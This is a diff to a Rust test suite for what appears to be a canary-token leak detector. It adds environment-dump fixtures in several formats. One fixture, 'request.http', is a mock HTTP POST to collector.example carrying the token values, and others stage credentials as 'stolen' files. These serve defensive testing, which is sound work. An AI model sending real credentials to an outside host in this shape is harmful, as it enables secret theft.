@@ -130,19 +130,23 @@ fn a_listing_of_the_environment_is_no_leak_and_a_value_written_on_its_own_still_
         .unwrap();
         fs::write(
             r.join("testlog.json"),
-            format!("{{\"env\": {{\"GITHUB_TOKEN\": \"{GH}\", \"NPM_TOKEN\": \"{NPM}\", \"PATH\": \"/usr/bin\", \"AWS_SECRET_ACCESS_KEY\": \"{AWS}\"}}}}\n"),
+            format!("{{\"env\": {{\"GITHUB_TOKEN\": \"{GH}\", \"NPM_TOKEN\": \"{NPM}\", \"PATH\": \"/usr/bin\", \"HOME\": \"/root\", \"AWS_SECRET_ACCESS_KEY\": \"{AWS}\"}}}}\n"),
         )
         .unwrap();
     });
     assert!(found.is_empty(), "{found:?}");
     let (found, _) = judged(r, 100, || {
         // One value staged on its own, next to PATH: a leak.
-        fs::write(r.join("staged"), format!("PATH=/usr/bin\nGITHUB_TOKEN={GH}\n")).unwrap();
+        fs::write(r.join("staged"), format!("PATH=/usr/bin\nHOME=/root\nGITHUB_TOKEN={GH}\n")).unwrap();
         // Every value, but one under another name: a leak.
-        fs::write(r.join("renamed"), format!("PATH=/bin GITHUB_TOKEN={GH} NPM_TOKEN={NPM} KEY={AWS}\n")).unwrap();
-        // Every value behind its name, without PATH: no listing of the environment.
-        fs::write(r.join("nopath"), format!("GITHUB_TOKEN={GH} NPM_TOKEN={NPM} AWS_SECRET_ACCESS_KEY={AWS}\n"))
+        fs::write(r.join("renamed"), format!("PATH=/bin HOME=/root GITHUB_TOKEN={GH} NPM_TOKEN={NPM} KEY={AWS}\n"))
             .unwrap();
+        // Every value behind its name, with HOME but without PATH: no listing of the environment.
+        fs::write(
+            r.join("nopath"),
+            format!("HOME=/root GITHUB_TOKEN={GH} NPM_TOKEN={NPM} AWS_SECRET_ACCESS_KEY={AWS}\n"),
+        )
+        .unwrap();
     });
     let leaks = details(&found, Rule::CanaryLeak);
     for name in ["staged", "renamed", "nopath"] {
@@ -161,7 +165,8 @@ fn a_listing_of_the_environment_lets_through_only_the_variables_behind_their_own
     // of the file went unsearched.
     let d = tempfile::tempdir().unwrap();
     let r = d.path();
-    let listing = format!("GITHUB_TOKEN={GH}\nNPM_TOKEN={NPM}\nPATH=/usr/bin\nAWS_SECRET_ACCESS_KEY={AWS}\n");
+    let listing =
+        format!("GITHUB_TOKEN={GH}\nNPM_TOKEN={NPM}\nPATH=/usr/bin\nHOME=/root\nAWS_SECRET_ACCESS_KEY={AWS}\n");
     let (found, _) = judged(r, 100, || {
         // A file canary written after the listing.
         fs::write(r.join("stolen"), format!("{listing}aws_secret_access_key = {CRED}\n")).unwrap();
@@ -187,10 +192,10 @@ fn a_listing_of_the_environment_lets_through_only_the_variables_behind_their_own
     // Review 85 FP2: Python's repr of `os.environ` and Node's
     // `util.inspect(process.env)` are listings too, with the same rule.
     let python = format!(
-        "environ({{'GITHUB_TOKEN': '{GH}', 'NPM_TOKEN': '{NPM}', 'PATH': '/usr/bin', 'AWS_SECRET_ACCESS_KEY': '{AWS}'}})\n"
+        "environ({{'GITHUB_TOKEN': '{GH}', 'NPM_TOKEN': '{NPM}', 'PATH': '/usr/bin', 'HOME': '/root', 'AWS_SECRET_ACCESS_KEY': '{AWS}'}})\n"
     );
     let node = format!(
-        "{{\n  GITHUB_TOKEN: '{GH}',\n  NPM_TOKEN: \"{NPM}\",\n  PATH: '/usr/bin',\n  AWS_SECRET_ACCESS_KEY: '{AWS}'\n}}\n"
+        "{{\n  GITHUB_TOKEN: '{GH}',\n  NPM_TOKEN: \"{NPM}\",\n  PATH: '/usr/bin',\n  HOME: '/root',\n  AWS_SECRET_ACCESS_KEY: '{AWS}'\n}}\n"
     );
     let d = tempfile::tempdir().unwrap();
     let r = d.path();
@@ -213,4 +218,86 @@ fn a_listing_of_the_environment_lets_through_only_the_variables_behind_their_own
     let r = d.path();
     let (found, _) = judged(r, 100, || fs::write(r.join("twice"), format!("{listing}{listing}")).unwrap());
     assert!(found.is_empty(), "{found:?}");
+}
+
+/// Review 86 FP1: environment dumps in other common shapes are listings too
+/// (one reader of entries: a name, blanks, `=`, `:` or `=>`, blanks, a
+/// quote), with the same rule.
+#[test]
+fn perl_python_bytes_toml_and_spaced_json_dumps_of_the_environment_are_listings() {
+    let vars = [
+        ("GITHUB_TOKEN", GH),
+        ("NPM_TOKEN", NPM),
+        ("PATH", "/usr/bin"),
+        ("HOME", "/root"),
+        ("AWS_SECRET_ACCESS_KEY", AWS),
+    ];
+    let dump = |entry: &dyn Fn(&str, &str) -> String| vars.iter().map(|(n, v)| entry(n, v)).collect::<String>();
+    let dumps = [
+        ("dumper.txt", format!("$VAR1 = {{\n{}}};\n", dump(&|n, v| format!("          '{n}' => '{v}',\n")))),
+        ("environb.txt", format!("environ({{{}}})\n", dump(&|n, v| format!("b'{n}': b'{v}', ")))),
+        ("env.toml", dump(&|n, v| format!("{n} = \"{v}\"\n"))),
+        ("env.ini", format!("[env]\n{}", dump(&|n, v| format!("{n} = {v}\n")))),
+        ("env.json", format!("{{\n{}}}\n", dump(&|n, v| format!("  \"{n}\" : \"{v}\",\n")))),
+        ("declare.txt", dump(&|n, v| format!("declare -x {n}=\"{v}\"\n"))),
+    ];
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    let (found, _) = judged(r, 100, || {
+        for (name, text) in &dumps {
+            fs::write(r.join(name), text).unwrap();
+        }
+    });
+    assert!(found.is_empty(), "{found:?}");
+    // The same rule: a value under a longer name or another one after the dump is a leak.
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    let (found, _) = judged(r, 100, || {
+        for (name, text) in &dumps {
+            fs::write(r.join(name), format!("{text}MYGITHUB_TOKEN = '{GH}'\n")).unwrap();
+        }
+    });
+    let leaks = details(&found, Rule::CanaryLeak);
+    for (name, _) in &dumps {
+        assert!(named_in(&leaks, name, "$GITHUB_TOKEN"), "{name}: {leaks:?}");
+    }
+}
+
+/// Review 86 FN1: files meant to carry the values, not dumps of the
+/// environment, are no listing: `PATH` must be an entry of its own name
+/// (`CLASSPATH=`, `MANPATH=` are not), and `PATH` and `HOME` entries must be
+/// written like the variables' and near them.
+#[test]
+fn a_file_that_only_names_the_variables_is_no_listing() {
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    let (found, _) = judged(r, 100, || {
+        fs::write(
+            r.join("Dockerfile"),
+            format!("FROM alpine\nENV CLASSPATH=/app HOME=/root GITHUB_TOKEN={GH} NPM_TOKEN={NPM} AWS_SECRET_ACCESS_KEY={AWS}\n"),
+        )
+        .unwrap();
+        fs::write(
+            r.join("request.http"),
+            format!("POST https://collector.example/x\nX-Cfg: MANPATH=/x HOME=/h\nGITHUB_TOKEN: {GH}\nNPM_TOKEN: {NPM}\nAWS_SECRET_ACCESS_KEY: {AWS}\n"),
+        )
+        .unwrap();
+        // PATH and HOME entries, but written otherwise than the variables'.
+        fs::write(
+            r.join("mixed"),
+            format!("PATH=/usr/bin\nHOME=/root\nGITHUB_TOKEN: {GH}\nNPM_TOKEN: {NPM}\nAWS_SECRET_ACCESS_KEY: {AWS}\n"),
+        )
+        .unwrap();
+        // A listing, and far past it the values again.
+        let listing =
+            format!("GITHUB_TOKEN={GH}\nNPM_TOKEN={NPM}\nPATH=/usr/bin\nHOME=/root\nAWS_SECRET_ACCESS_KEY={AWS}\n");
+        let far = format!("{listing}{}\nGITHUB_TOKEN={GH}\n", "x".repeat(NEAR + 16));
+        fs::write(r.join("far"), far).unwrap();
+    });
+    let leaks = details(&found, Rule::CanaryLeak);
+    for name in ["Dockerfile", "request.http", "mixed"] {
+        assert!(leaks.iter().any(|d| d.contains(name)), "{name} passed: {leaks:?}");
+    }
+    assert!(named_in(&leaks, "far", "$GITHUB_TOKEN"), "{leaks:?}");
+    assert_eq!(leaks.len(), 4, "{leaks:?}");
 }
